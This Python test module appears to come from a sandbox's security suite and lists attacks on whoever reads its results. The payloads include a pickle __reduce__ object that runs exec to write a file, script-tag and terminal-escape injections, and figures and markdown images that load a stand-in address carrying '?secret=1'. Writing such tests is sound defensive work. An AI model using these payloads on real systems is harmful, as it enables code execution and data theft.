"""Results that attack who reads them: data of bad forms, code in data, and answers that nobody asked for."""

import dataclasses
from collections.abc import Mapping

from sandbox.outcome import FigureOutput, TableOutput, TextOutput, ValueOutput
from tests.sandbox.attacks.attack import Attack, Seen
from tests.sandbox.attacks.channel import CHANNEL
from tests.sandbox.attacks.forms import FORGED, FORMS, leaves, plain
from tests.sandbox.attacks.stage import Stage

ESCAPE = "\x1b"


def outside(stage: Stage) -> Mapping[str, object]:
    return {"path": stage.outside()}


def wrote(stage: Stage, seen: Seen) -> bool:
    return stage.wrote()


def escaped(stage: Stage, seen: Seen) -> bool:
    """What a terminal would obey came through, outside of what a table holds."""
    if seen.outcome is None:
        return ESCAPE in seen.text
    bare = dataclasses.replace(
        seen.outcome, outputs=[o for o in seen.outcome.outputs if not isinstance(o, TableOutput)]
    )
    titles = [o.title for o in seen.outcome.outputs if isinstance(o, TableOutput)]
    return any(isinstance(leaf, str) and ESCAPE in leaf for leaf in (*leaves(bare), *titles))


def fetched(stage: Stage, seen: Seen) -> bool:
    """A figure makes the page load something from elsewhere: it would carry data away."""
    if seen.outcome is None:
        return "127.0.0.1:9" in seen.text
    figures = [o.figure for o in seen.outcome.outputs if isinstance(o, FigureOutput)]
    return any("127.0.0.1:9" in str(leaf) for figure in figures for leaf in plain(figure))


def markup(stage: Stage, seen: Seen) -> bool:
    """Text came as something that a page would not show as text."""
    if seen.outcome is None:
        return "<script>" in seen.text
    return not all(isinstance(o, (TextOutput, ValueOutput, TableOutput)) for o in seen.outcome.outputs)


EVIL = """
class Evil:
    def __reduce__(self):
        return exec, (f"open({$path!r}, 'w').write({TOKEN!r})",)
"""
PICKLES = [
    Attack("an object that runs when it is read", EVIL + "Evil()", outside, wrote),
    Attack("the same, shown", EVIL + "show(Evil())", outside, wrote),
    Attack("the same in a list", EVIL + "[1, Evil()]", outside, wrote),
    Attack("the same in output", EVIL + "output = {'a': Evil()}\nshow(output)", outside, wrote),
    Attack("the same in a table", EVIL + "import pandas; pandas.DataFrame({'a': [Evil()]})", outside, wrote),
    Attack(
        "the same in an array", EVIL + "import numpy; numpy.array([Evil()], dtype=object)", outside, wrote
    ),
    Attack(
        "the same as an attribute of a table",
        EVIL + "import pandas; f = pandas.DataFrame({'a': [1]}); f.attrs['x'] = Evil(); f",
        outside,
        wrote,
    ),
    Attack(
        "the same as an error",
        EVIL + "class Wrong(Exception): __reduce__ = Evil.__reduce__\nshow(Wrong())",
        outside,
        wrote,
    ),
    Attack("the same as an answer", EVIL + "import pickle; forge(pickle.dumps([Evil()]))", outside, wrote),
    Attack(
        "the same in a figure",
        EVIL
        + """
import matplotlib
matplotlib.use("agg")
import matplotlib.pyplot as plt
drawn = plt.figure()
drawn.planted = Evil()
show(drawn)
""",
        outside,
        wrote,
    ),
]
PAGES = [
    Attack(f"{what} in {place}", code % text, None, check)
    for what, text, check in [
        ("a script", "<script>alert(1)</script>", markup),
        ("a picture from elsewhere", "![x](http://127.0.0.1:9/?d=1)<script>", markup),
    ]
    for place, code in [
        ("a value", "show('%s')"),
        ("a printed text", "print('%s'); show('%s')".replace("; show('%s')", "")),
        ("a table's column", "import pandas; show(pandas.DataFrame({'%s': [1]}))"),
    ]
    if not (place == "a printed text" and what.startswith("a picture"))
] + [
    Attack("terminal escapes printed", "print('\\x1b]0;planted\\x07'); show('\\x1b[2J')", None, escaped),
    Attack("terminal escapes in an error", "show('\\x1b[2J')\nraise ValueError('\\x1b[2J')", None, escaped),
    Attack("terminal escapes as a title", "show('\\x1b[2J' * 2, '\\x1b[2J')", None, escaped),
    Attack("terminal escapes in a note", "hostile(notes=['\\x1b[2J'])\nshow('\\x1b[2J')", None, escaped),
    Attack(
        "terminal escapes in the name of an error",
        "show('\\x1b[2J')\nraise type('W\\x1b[2J', (Exception,), {})('x')",
        None,
        escaped,
    ),
    *[
        Attack(
            f"a figure that loads {what}",
            f"""
            import plotly.graph_objects as go
            address = "http://127.0.0.1:9/?secret=1"
            drawn = go.Figure({data})
            show(drawn)
            print(drawn.to_json())
            """,
            None,
            fetched,
            timeout=10.0,
        )
        for what, data in {
            "a picture": "layout={'images': [{'source': address}]}",
            "a picture by its template": "layout={'template': {'layout': {'images': [{'source': address}]}}}",
            "a picture as a trace": "go.Image(source=address)",
            "a map's outlines": "go.Choropleth(geojson=address, locations=['a'], z=[1])",
            "a map's style": "go.Scattermap(lat=[1], lon=[1]), layout={'map': {'style': address}}",
            "a map's layer": "go.Scattermap(lat=[1], lon=[1]), layout={'map': {'layers': [{"
            "'sourcetype': 'raster', 'source': [address]}]}}",
            "a picture in a frame": "frames=[{'layout': {'images': [{'source': address}]}}]",
        }.items()
    ],
]
ATTACKS = [*PICKLES, *FORMS, *FORGED, *PAGES, *CHANNEL]
